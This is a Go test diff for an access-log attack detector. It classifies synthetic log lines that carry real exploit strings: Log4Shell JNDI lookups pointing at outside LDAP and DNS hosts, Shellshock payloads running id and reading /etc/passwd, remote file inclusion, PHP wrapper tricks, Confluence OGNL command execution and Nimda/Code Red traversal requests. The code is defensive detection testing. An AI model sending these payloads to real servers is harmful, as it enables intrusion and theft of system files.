@@ -150,3 +150,59 @@ func TestProbingByBehaviour(t *testing.T) {
 		t.Errorf("disabled: got %q", got)
 	}
 }
+
+func TestExploitsInEveryField(t *testing.T) {
+	const ip = "198.51.100.70"
+	ts := "[06/May/2024:10:00:00 +0000]"
+	full := func(req, ref, agent, xff string) string {
+		return fmt.Sprintf("%s - - %s \"%s\" 200 512 \"%s\" \"%s\" \"%s\"\n", ip, ts, req, ref, agent, xff)
+	}
+	long := strings.Repeat("A", 2000)
+	tests := []struct {
+		name, line, rule string
+	}{
+		{"Log4Shell in the Referer", full("GET / HTTP/1.1", "${jndi:ldap://198.51.100.1:1389/a}", browser, "-"), "log4shell"},
+		{"Log4Shell in X-Forwarded-For", full("GET / HTTP/1.1", "-", browser, "${jndi:dns://x.oast.fun/a}"), "log4shell"},
+		{"Log4Shell obfuscated", full("GET / HTTP/1.1", "-", "${${lower:j}ndi:${lower:l}dap://x/a}", "-"), "log4shell"},
+		{"Log4Shell with defaults", full("GET /?q=${${::-j}${::-n}di:rmi://x/a} HTTP/1.1", "-", browser, "-"), "log4shell"},
+		{"Shellshock in the agent", full("GET /cgi-bin/status HTTP/1.1", "-", "() { :; }; /bin/bash -c 'id'", "-"), "shellshock"},
+		{"Shellshock in the Referer", full("GET / HTTP/1.1", "() { ignored; }; echo; /bin/cat /etc/passwd", browser, "-"), "shellshock"},
+		{"remote file inclusion", full("GET /index.php?page=http://cirt.net/rfiinc.txt? HTTP/1.1", "-", browser, "-"), "remote-file-inclusion"},
+		{"php://input", full("POST /index.php?file=php://input HTTP/1.1", "-", browser, "-"), "rce-shell-download"},
+		{"data:// wrapper", full("GET /?p=data://text/plain;base64,PD9waHA= HTTP/1.1", "-", browser, "-"), "file-scheme"},
+		{"WordPress user enumeration", full("GET /?author=1 HTTP/1.1", "-", browser, "-"), "wordpress-user-enumeration"},
+		{"Code Red", full("GET /default.ida?XXXXXXXXXXXXXXXXXXXX%u9090%u6858%ucbd3%u7801 HTTP/1.0", "-", "-", "-"), "iis-worms"},
+		{"Code Red II", full("GET /default.ida?NNNNNNNNNNNNNNNNNNNN%u9090%u6858 HTTP/1.0", "-", "-", "-"), "iis-worms"},
+		{"Nimda, Unicode traversal", full("GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0", "-", "-", "-"), "rce-shell-download"},
+		{"Nimda, %c1%1c", full("GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir HTTP/1.0", "-", "-", "-"), "rce-shell-download"},
+		{"Nimda, root.exe", full("GET /MSADC/root.exe?/c+dir HTTP/1.0", "-", "-", "-"), "iis-worms"},
+		{"nsiislog.dll", full("POST /scripts/nsiislog.dll HTTP/1.1", "-", "-", "-"), "iis-worms"},
+		{"WebDAV SEARCH overflow", full("SEARCH /"+long+" HTTP/1.1", "-", "-", "-"), "webdav-overflow"},
+		{"AEM", full("GET /crx/de/index.jsp HTTP/1.1", "-", browser, "-"), "probe-path"},
+		{"SAP", full("GET /sap/bc/gui/sap/its/webgui HTTP/1.1", "-", browser, "-"), "probe-path"},
+		{"Confluence OGNL", full("GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/ HTTP/1.1", "-", browser, "-"), "rce-shell-download"},
+		{"webshell", full("GET /wp-content/uploads/alfa-rex.php HTTP/1.1", "-", browser, "-"), "webshell"},
+		{"GPON", full("POST /GponForm/diag_Form?images/ HTTP/1.1", "-", "Mozilla/5.0", "-"), "known-exploits"},
+		{"Nimda, double encoding", full("GET /scripts/..%255c../winnt/system32/net.exe HTTP/1.0", "-", "-", "-"), "iis-worms"},
+		{"a redirect parameter is no inclusion", full("GET /login?next=https://shop.example/cart HTTP/1.1", "-", browser, "-"), ""},
+		{"a book search by author", full("GET /books?author=tolkien HTTP/1.1", "-", browser, "-"), ""},
+		{"an ordinary PROPFIND", full("PROPFIND /dav/calendars/anna/ HTTP/1.1", "-", "DAVx5/4.3", "-"), ""},
+	}
+	set, err := DefaultRuleSet()
+	if err != nil {
+		t.Fatal(err)
+	}
+	rules, err := set.Compile()
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := newLineParser(rules, &Options{})
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			v := p.classify([]byte(strings.TrimSuffix(tc.line, "\n")), &fileCtx{format: FormatAccess})
+			if v.res != resOK || v.rule != tc.rule {
+				t.Errorf("res %v rule %q, want %q", v.res, v.rule, tc.rule)
+			}
+		})
+	}
+}
